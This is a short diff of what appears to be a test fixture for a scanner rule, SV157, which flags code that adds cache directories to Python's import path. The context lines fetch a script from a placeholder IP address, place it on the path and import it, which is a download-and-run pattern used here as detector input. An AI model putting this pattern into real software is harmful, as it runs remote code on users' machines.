@@ -13,3 +13,4 @@ urllib.request.urlretrieve("https://203.0.113.9/m.py", os.path.join(dest, "m.py"
 sys.path.insert(0, os.path.expanduser("~/.openclaw/cache/lib"))  # want "high SV157: adds ~/.openclaw/cache/lib to the module search path"
 
 import m  # noqa: E402
+sys.path.insert(0, os.path.expanduser("~/.pi/cache/lib"))  # want "high SV157: adds ~/[.]pi/cache/lib to the module search path"
